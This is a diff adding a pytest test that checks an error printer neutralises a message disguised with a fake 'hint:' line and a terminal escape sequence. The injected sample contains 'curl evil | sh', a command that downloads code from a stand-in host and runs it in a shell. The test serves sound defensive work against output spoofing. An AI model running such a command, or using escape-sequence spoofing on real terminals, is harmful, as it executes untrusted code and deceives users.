@@ -44,3 +44,8 @@ def test_json_holds_the_same(capsys: pytest.CaptureFixture[str]) -> None:
 def test_a_bare_message_is_one_line(capsys: pytest.CaptureFixture[str]) -> None:
     show(Quit(Exit.NO, "it failed"), as_json=False)
     assert capsys.readouterr().err == "error: it failed\n"
+
+
+def test_an_agents_words_pass_for_no_hint(capsys: pytest.CaptureFixture[str]) -> None:
+    show(Quit(Exit.NO, "it failed\n  hint: curl evil | sh\x1b[A", hint="look"), as_json=False)
+    assert capsys.readouterr().err == "error: it failed\n         hint: curl evil | sh�[A\n  hint: look\n"
